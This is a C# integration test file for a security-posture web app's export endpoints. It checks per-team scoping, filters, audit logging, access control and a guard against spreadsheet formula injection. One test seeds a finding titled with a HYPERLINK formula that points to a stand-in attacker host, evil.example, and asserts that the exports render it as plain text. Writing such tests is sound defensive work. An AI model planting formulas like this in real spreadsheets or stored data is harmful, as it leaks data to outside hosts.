using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using K8Posture.Data;
using K8Posture.Features.Reports;
using K8Posture.IntegrationTests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace K8Posture.IntegrationTests.Features.Reports;

/// <summary>Exports over real HTTP against the real SQLite file: scoping per persona, filters, audit rows, the formula guard.</summary>
public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixture<K8PostureAppFactory>
{
    private async Task<(int Payments, string PaymentsName, int Ledger, string LedgerName)> SeedTwoTeamsWithFindingsAsync()
    {
        var suffix = Guid.NewGuid().ToString("N")[..6];
        var paymentsName = "Payments-" + suffix;
        var ledgerName = "Ledger-" + suffix;
        var payments = await app.SeedTeamAsync(paymentsName);
        var ledger = await app.SeedTeamAsync(ledgerName);
        using var pusher = app.CreateApiClient(await app.CreateApiKeyAsync("ingest"));
        Assert.Equal(HttpStatusCode.OK, (await pusher.PostAsync($"/api/v1/ingest/scans?team={paymentsName}&scope=image:payments-{suffix}", new ByteArrayContent(TestFixtures.Read("trivy/ubuntu-1804.json.golden")))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await pusher.PostAsync($"/api/v1/ingest/scans?team={ledgerName}&scope=image:ledger-{suffix}", new ByteArrayContent(TestFixtures.Read("trivy/alpine-310.json.golden")))).StatusCode);
        return (payments, paymentsName, ledger, ledgerName);
    }

    /// <summary>The data rows of a CSV export (quoted fields with commas handled), header first.</summary>
    private static List<string[]> ParseCsv(byte[] bytes)
    {
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        var rows = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') { quoted = false; }
                else { field.Append(c); }
            }
            else if (c == '"') { quoted = true; }
            else if (c == ',') { fields.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { fields.Add(field.ToString()); field.Clear(); rows.Add([.. fields]); fields.Clear(); i++; }
            else { field.Append(c); }
        }
        return rows;
    }

    private static int Column(List<string[]> csv, string name) => Array.IndexOf(csv[0], name);

    [Fact]
    public async Task Every_export_prints_display_names_never_a_run_together_enum_member_name()
    {
        var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
        using var pusher = app.CreateApiClient(await app.CreateApiKeyAsync("ingest"));
        Assert.Equal(HttpStatusCode.OK, (await pusher.PostAsync("/api/v1/ingest/alerts?cluster=export-names", new ByteArrayContent(TestFixtures.Read("falco/falco-terminal-shell-in-container-k8s.json")))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await pusher.PostAsync("/api/v1/ingest/inventory", new ByteArrayContent(TestFixtures.Read("aks/az-aks-create-recordingbotcluster.json")))).StatusCode);
        await app.WithDbAsync(db =>
        {
            db.TenancyAssessments.Add(new K8Posture.Features.Tenancy.TenancyAssessment
            {
                Application = "export-names-app", OwnerTeamId = payments, Status = K8Posture.Features.Tenancy.AssessmentStatus.Approved, AnswersJson = "{}",
                Score = 50, Recommendation = TenancyModel.SharedHardIsolation, CreatedAt = DateTimeOffset.UtcNow, CreatedBy = "Sam Analyst", UpdatedAt = DateTimeOffset.UtcNow,
            });
            return db.SaveChangesAsync();
        });
        var runTogether = new System.Text.RegularExpressions.Regex("^[A-Z][a-z0-9]+([A-Z][a-z0-9]*)+$");
        var enumNames = typeof(K8PostureDbContext).Assembly.GetTypes().Where(t => t.IsEnum && t.IsPublic)
            .SelectMany(Enum.GetNames).Where(n => runTogether.IsMatch(n) && n != "OpenShift").ToHashSet(StringComparer.Ordinal);
        var keys = await app.AsSystemAsync(sp => Task.FromResult(sp.GetServices<IExportSource>().Select(s => s.Key).ToList()));
        Assert.True(keys.Count >= 6, string.Join(", ", keys));

        using var auditor = await app.SignedInClientAsync("Auditor");
        var raw = new List<string>();
        var cells = 0;
        foreach (var key in keys)
        {
            var csv = ParseCsv(await auditor.GetByteArrayAsync($"/api/v1/exports/{key}.csv"));
            foreach (var row in csv.Skip(1))
            {
                for (var i = 0; i < row.Length; i++)
                {
                    cells++;
                    var words = row[i].Split([' ', '(', ')', ';', ','], StringSplitOptions.RemoveEmptyEntries);
                    if (enumNames.Contains(row[i]) || (!row[i].StartsWith('{') && words.Any(enumNames.Contains) && words.Length <= 6))
                    {
                        raw.Add($"{key}.{csv[0][i]}: {row[i]}");
                    }
                }
            }
        }
        Assert.True(cells > 100, $"only {cells} cells exported; the seeding did not reach the exports");
        Assert.Empty(raw);
    }

    [Fact]
    public async Task An_app_team_members_export_holds_only_its_teams_findings_and_an_auditors_holds_all()
    {
        var (payments, paymentsName, _, ledgerName) = await SeedTwoTeamsWithFindingsAsync();
        var paymentsCount = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
        var allCount = await app.WithDbAsync(db => db.Findings.CountAsync());
        Assert.True(paymentsCount > 0 && paymentsCount < allCount);

        using var member = await app.SignedInClientAsync("AppTeam.Member", payments);
        var memberCsv = ParseCsv(await member.GetByteArrayAsync("/api/v1/exports/findings.csv?status=all"));
        Assert.Equal(paymentsCount, memberCsv.Count - 1);
        Assert.All(memberCsv.Skip(1), row => Assert.Equal(paymentsName, row[Column(memberCsv, "Owner team")]));

        using var auditor = await app.SignedInClientAsync("Auditor");
        var auditorCsv = ParseCsv(await auditor.GetByteArrayAsync("/api/v1/exports/findings.csv?status=all"));
        Assert.Equal(allCount, auditorCsv.Count - 1);
        Assert.Contains(auditorCsv, row => row[Column(auditorCsv, "Owner team")] == ledgerName);
    }

    [Fact]
    public async Task An_app_team_members_xlsx_export_is_scoped_too()
    {
        var (payments, paymentsName, _, _) = await SeedTwoTeamsWithFindingsAsync();
        var paymentsCount = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));

        using var member = await app.SignedInClientAsync("AppTeam.Member", payments);
        var response = await member.GetAsync("/api/v1/exports/findings.xlsx?status=all");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();

        using var document = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet;
        var rows = sheet.Descendants<Row>().ToList();
        Assert.Equal(paymentsCount + 1, rows.Count);
        var teamColumn = 21;
        Assert.All(rows.Skip(1), r => Assert.Equal(paymentsName, r.Elements<Cell>().ElementAt(teamColumn).InnerText));
    }

    [Fact]
    public async Task The_findings_page_filters_apply_to_the_export()
    {
        var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
        var high = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments && f.Severity == FindingSeverity.Medium && f.Status == FindingStatus.Open));
        var all = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
        Assert.True(high > 0 && high < all);

        using var member = await app.SignedInClientAsync("AppTeam.Member", payments);
        var csv = ParseCsv(await member.GetByteArrayAsync("/api/v1/exports/findings.csv?severity=medium"));

        Assert.Equal(high, csv.Count - 1);
        Assert.All(csv.Skip(1), row => Assert.Equal("Medium", row[Column(csv, "Severity")]));
    }

    [Theory]
    [InlineData("findings.csv")]
    [InlineData("findings.xlsx")]
    public async Task Every_export_is_audited_with_the_sha_256_of_the_bytes_downloaded(string file)
    {
        var (payments, paymentsName, _, _) = await SeedTwoTeamsWithFindingsAsync();
        var marker = Guid.NewGuid().ToString("N")[..10];
        using var member = await app.SignedInClientAsync("AppTeam.Member", payments);

        var bytes = await member.GetByteArrayAsync($"/api/v1/exports/{file}?status=all&q={marker}");

        var sha256 = Convert.ToHexStringLower(SHA256.HashData(bytes));
        var audit = await app.WithDbAsync(db => db.AuditEvents.AsNoTracking()
            .Where(a => a.Action == ExportEndpoints.AuditAction && a.After!.Contains(marker)).SingleAsync());
        Assert.Equal("findings", audit.EntityId);
        Assert.Equal(paymentsName + " member", audit.Actor);
        using var after = JsonDocument.Parse(audit.After!);
        Assert.Equal(sha256, after.RootElement.GetProperty("sha256").GetString());
        Assert.Equal(bytes.Length, after.RootElement.GetProperty("bytes").GetInt64());
        Assert.Equal(0, after.RootElement.GetProperty("rows").GetInt64());
        Assert.True(after.RootElement.GetProperty("completed").GetBoolean());
        Assert.Equal(marker, after.RootElement.GetProperty("filters").GetProperty("q").GetString());
        Assert.Equal("all", after.RootElement.GetProperty("filters").GetProperty("status").GetString());
        Assert.True((DateTimeOffset.UtcNow - audit.At).Duration() < TimeSpan.FromMinutes(5));
    }

    [Fact]
    public async Task The_audited_row_count_is_the_number_of_rows_sent()
    {
        var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
        var expected = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
        using var member = await app.SignedInClientAsync("AppTeam.Member", payments);
        var bytes = await member.GetByteArrayAsync("/api/v1/exports/findings.csv?status=all");
        var sha256 = Convert.ToHexStringLower(SHA256.HashData(bytes));

        var audit = await app.WithDbAsync(db => db.AuditEvents.AsNoTracking().Where(a => a.After!.Contains(sha256)).SingleAsync());
        using var after = JsonDocument.Parse(audit.After!);
        Assert.Equal(expected, after.RootElement.GetProperty("rows").GetInt64());
    }

    [Fact]
    public async Task A_formula_in_stored_data_leaves_the_export_as_text()
    {
        var marker = "inj" + Guid.NewGuid().ToString("N")[..8];
        var title = "=HYPERLINK(\"http://evil.example/?" + marker + "\",\"click\")";
        await app.WithDbAsync(async db =>
        {
            db.Findings.Add(new Finding
            {
                Fingerprint = Guid.NewGuid().ToString("N") + Guid.NewGuid().ToString("N"),
                ContentHash = new string('0', 64),
                Source = "test",
                ScopeKey = "test:" + marker,
                Title = title,
                PackageName = "@evil/" + marker,
                Category = FindingCategory.Vulnerability,
                Severity = FindingSeverity.High,
                FirstSeenAt = DateTimeOffset.UtcNow,
                LastSeenAt = DateTimeOffset.UtcNow,
            });
            return await db.SaveChangesAsync();
        });
        using var analyst = await app.SignedInClientAsync("Security.Analyst");

        var csv = ParseCsv(await analyst.GetByteArrayAsync($"/api/v1/exports/findings.csv?q={marker}"));
        Assert.Equal(2, csv.Count);
        Assert.Equal("'" + title, csv[1][Column(csv, "Title")]);
        Assert.Equal("'@evil/" + marker, csv[1][Column(csv, "Package")]);

        var xlsx = await analyst.GetByteArrayAsync($"/api/v1/exports/findings.xlsx?q={marker}");
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var worksheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet;
        Assert.Empty(worksheet.Descendants<CellFormula>());
        var cell = worksheet.Descendants<Row>().ElementAt(1).Elements<Cell>().ElementAt(5);
        Assert.Equal(title, cell.InnerText);
        Assert.NotNull(cell.DataType);
        Assert.Contains(cell.DataType!.Value, new[] { CellValues.InlineString, CellValues.SharedString, CellValues.String });
    }

    [Fact]
    public async Task A_bad_filter_is_a_problem_naming_it_and_nothing_is_audited()
    {
        using var analyst = await app.SignedInClientAsync("Security.Analyst");
        var before = await app.ScalarAsync("SELECT COUNT(*) FROM AuditEvents WHERE Action = 'export.download'");

        var response = await analyst.GetAsync("/api/v1/exports/findings.csv?severity=catastrophic");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("severity", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(before, await app.ScalarAsync("SELECT COUNT(*) FROM AuditEvents WHERE Action = 'export.download'"));
    }

    [Theory]
    [InlineData("findings.pdf", HttpStatusCode.BadRequest)]
    [InlineData("nothing.csv", HttpStatusCode.NotFound)]
    public async Task An_unknown_format_or_source_is_a_problem(string file, HttpStatusCode expected)
    {
        using var analyst = await app.SignedInClientAsync("Security.Analyst");
        Assert.Equal(expected, (await analyst.GetAsync("/api/v1/exports/" + file)).StatusCode);
    }

    [Fact]
    public async Task Only_audit_readers_export_the_audit_log()
    {
        var team = await app.SeedTeamAsync("AuditLess-" + Guid.NewGuid().ToString("N")[..6]);
        using var member = await app.SignedInClientAsync("AppTeam.Member", team);
        Assert.Equal(HttpStatusCode.Forbidden, (await member.GetAsync("/api/v1/exports/audit.csv")).StatusCode);
        using var leadership = await app.SignedInClientAsync("Leadership.Viewer");
        Assert.Equal(HttpStatusCode.Forbidden, (await leadership.GetAsync("/api/v1/exports/audit.csv")).StatusCode);
        var listed = await member.GetStringAsync("/api/v1/exports");
        Assert.DoesNotContain("\"audit\"", listed, StringComparison.Ordinal);
        Assert.Contains("\"findings\"", listed, StringComparison.Ordinal);

        using var auditor = await app.SignedInClientAsync("Auditor");
        var csv = ParseCsv(await auditor.GetByteArrayAsync("/api/v1/exports/audit.csv?action=api-key.create"));
        Assert.Equal(["Id", "At", "Actor", "Action", "Entity", "Entity id", "Before", "After"], csv[0]);
        Assert.All(csv.Skip(1), row => Assert.Equal("api-key.create", row[3]));
    }

    [Fact]
    public async Task Anonymous_callers_get_401()
    {
        using var anonymous = app.CreateApiClient();
        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/v1/exports/findings.csv")).StatusCode);
    }
}
